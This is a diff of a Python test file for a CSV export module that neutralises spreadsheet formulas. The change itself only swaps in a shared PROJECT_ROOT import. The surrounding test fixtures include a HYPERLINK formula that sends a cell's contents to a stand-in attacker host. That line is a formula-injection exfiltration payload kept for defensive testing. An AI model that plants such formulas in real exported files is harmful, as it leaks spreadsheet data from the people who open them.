@@ -12,6 +12,7 @@ from hypothesis import example, given
 from hypothesis import strategies as st
 
 from annotator._util.csv_cells import TRIGGERS, DictWriter, neutralise, restore
+from tests.support.imports import PROJECT_ROOT
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
@@ -87,7 +88,7 @@ def test_the_file_on_disk_holds_the_quote(tmp_path: Path) -> None:
 
 def test_every_csv_file_is_written_through_the_one_writer() -> None:
     """One place: a new CSV writer that bypassed `csv_cells.DictWriter` would write formulas again."""
-    root = Path(__file__).resolve().parent.parent
+    root = PROJECT_ROOT
     bypassing = [
         f"{path.relative_to(root)}: {token}"
         for folder in ("annotator", "app_pages", "ui")
